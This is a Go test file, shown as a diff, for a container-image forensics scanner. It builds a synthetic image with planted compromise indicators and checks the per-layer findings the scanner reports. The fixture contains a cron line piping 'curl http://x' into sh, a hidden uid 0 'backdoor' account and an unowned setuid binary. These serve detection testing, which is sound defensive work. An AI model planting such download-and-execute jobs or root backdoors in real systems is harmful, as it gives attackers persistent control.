@@ -1,0 +1,153 @@
+package cli
+
+import (
+	"archive/tar"
+	"bytes"
+	"io"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+	"github.com/google/go-containerregistry/pkg/v1/empty"
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
+	"github.com/google/go-containerregistry/pkg/v1/tarball"
+
+	"github.com/trawlsec/trawl/pkg/model"
+)
+
+// tarEntry is one file of a test layer.
+type tarEntry struct {
+	name string
+	mode int64
+	body string
+}
+
+// forensicsImage builds an image of layers written with archive/tar, each
+// with its history command.
+func forensicsImage(t *testing.T, layers [][]tarEntry, createdBy []string) (v1.Image, []string) {
+	t.Helper()
+	img := empty.Image
+	var diffIDs []string
+	for i, entries := range layers {
+		var buf bytes.Buffer
+		tw := tar.NewWriter(&buf)
+		for _, e := range entries {
+			if err := tw.WriteHeader(&tar.Header{Name: e.name, Mode: e.mode, Size: int64(len(e.body)), Typeflag: tar.TypeReg}); err != nil {
+				t.Fatal(err)
+			}
+			tw.Write([]byte(e.body))
+		}
+		tw.Close()
+		b := buf.Bytes()
+		layer, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil })
+		if err != nil {
+			t.Fatal(err)
+		}
+		d, err := layer.DiffID()
+		if err != nil {
+			t.Fatal(err)
+		}
+		diffIDs = append(diffIDs, d.String())
+		img, err = mutate.Append(img, mutate.Addendum{Layer: layer, History: v1.History{CreatedBy: createdBy[i]}})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	return img, diffIDs
+}
+
+// TestForensicsImage: a base layer with normal accounts, a second layer
+// adding a uid 0 user with a shell, a cron job piping curl into sh and a
+// setuid ELF no package owns, a third deleting the cron job. Every finding
+// comes with the layer that added it; the cron findings are Deleted. The
+// base layer's own files give nothing.
+func TestForensicsImage(t *testing.T) {
+	const passwd = "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/sbin/nologin\n"
+	elf := "\x7fELF\x02\x01\x01\x00" + string(make([]byte, 56))
+	img, diffIDs := forensicsImage(t, [][]tarEntry{
+		{
+			{"etc/os-release", 0o644, "ID=alpine\nVERSION_ID=3.19.1\n"},
+			{"lib/apk/db/installed", 0o644, "P:busybox\nV:1.36.1-r5\nA:x86_64\no:busybox\nL:GPL-2.0-only\nF:bin\nR:busybox\nF:etc/periodic\n\n"},
+			{"etc/passwd", 0o644, passwd},
+			{"etc/shadow", 0o640, "root:*:19000:0:::::\ndaemon:*:19000:0:::::\n"},
+			{"bin/busybox", 0o4755, elf},
+			{"etc/crontabs/root", 0o600, "*/15 * * * * run-parts /etc/periodic/15min\n"},
+		},
+		{
+			{"etc/passwd", 0o644, passwd + "backdoor:x:0:0::/root:/bin/sh\n"},
+			{"etc/cron.d/job", 0o644, "# refresh\n* * * * * root curl http://x | sh\n"},
+			{"usr/local/bin/x", 0o4755, elf},
+		},
+		{
+			{"etc/cron.d/.wh.job", 0o644, ""},
+		},
+	}, []string{"ADD rootfs.tar /", "RUN ./install.sh", "RUN rm /etc/cron.d/job"})
+	archive := writeArchive(t, img)
+
+	out, errOut, code := run(t, "image", "--input", archive, "--cache-dir", t.TempDir(), "--quiet", "--scanners", "forensics", "-f", "json", "--exit-code", "3")
+	if code != 3 {
+		t.Fatalf("exit %d, want 3 (findings): %s", code, errOut)
+	}
+	r := decode(t, out)
+	res := forensicsResult(t, r)
+	if res.Target != archive {
+		t.Errorf("target = %q, want the artifact %q", res.Target, archive)
+	}
+	type row struct {
+		ID, Severity, Path, DiffID, CreatedBy, Mode, Package string
+		Deleted                                              bool
+	}
+	var got []row
+	for _, f := range res.Findings {
+		got = append(got, row{f.ID, f.Severity, f.Path, f.Layer.DiffID, f.Layer.CreatedBy, f.Mode, f.Package, f.Deleted})
+		if f.Path == "usr/local/bin/x" && (f.SHA256 == "" || f.Size != int64(len(elf)) || f.UID == nil || *f.UID != 0) {
+			t.Errorf("evidence of %s: %+v", f.ID, f)
+		}
+	}
+	l1, l2 := diffIDs[0], diffIDs[1]
+	want := []row{
+		{"FOR-PERM-SETUID", "LOW", "bin/busybox", l1, "ADD rootfs.tar /", "-rwsr-xr-x", "busybox", false},
+		{"FOR-PERSIST-CRON", "MEDIUM", "etc/cron.d/job", l2, "RUN ./install.sh", "-rw-r--r--", "", true},
+		{"FOR-MARKER-DOWNLOAD-EXEC", "HIGH", "etc/cron.d/job", l2, "RUN ./install.sh", "-rw-r--r--", "", true},
+		{"FOR-ACCOUNT-UID0", "CRITICAL", "etc/passwd", l2, "RUN ./install.sh", "-rw-r--r--", "", false},
+		{"FOR-ACCOUNT-SHELL", "MEDIUM", "etc/passwd", l2, "RUN ./install.sh", "-rw-r--r--", "", false},
+		{"FOR-PERM-SETUID", "HIGH", "usr/local/bin/x", l2, "RUN ./install.sh", "-rwsr-xr-x", "none", false},
+		{"FOR-EXEC-UNOWNED", "MEDIUM", "usr/local/bin/x", l2, "RUN ./install.sh", "-rwsr-xr-x", "none", false},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("findings (-want +got):\n%s", diff)
+	}
+
+	// --severity keeps the critical one only.
+	out, errOut, code = run(t, "image", "--input", archive, "--cache-dir", t.TempDir(), "--quiet", "--scanners", "forensics", "-f", "json", "--severity", "CRITICAL")
+	if code != 0 {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	if res := forensicsResult(t, decode(t, out)); len(res.Findings) != 1 || res.Findings[0].ID != "FOR-ACCOUNT-UID0" {
+		t.Errorf("--severity CRITICAL: %+v", res.Findings)
+	}
+}
+
+// forensicsResult returns the one forensics result of r.
+func forensicsResult(t *testing.T, r model.Report) model.Result {
+	t.Helper()
+	var out []model.Result
+	for _, res := range r.Results {
+		if res.Class == model.ClassForensics {
+			out = append(out, res)
+		}
+	}
+	if len(out) != 1 {
+		t.Fatalf("forensics results = %+v", out)
+	}
+	return out[0]
+}
+
+// TestForensicsTargets: the forensics scanner is refused where it does
+// not run, with a one-line error.
+func TestForensicsTargets(t *testing.T) {
+	_, errOut, code := run(t, "fs", "--scanners", "forensics", "--cache-dir", t.TempDir(), t.TempDir())
+	if code == 0 || !bytes.Contains([]byte(errOut), []byte("image and rootfs targets only")) {
+		t.Errorf("fs --scanners forensics: exit %d, %q", code, errOut)
+	}
+}
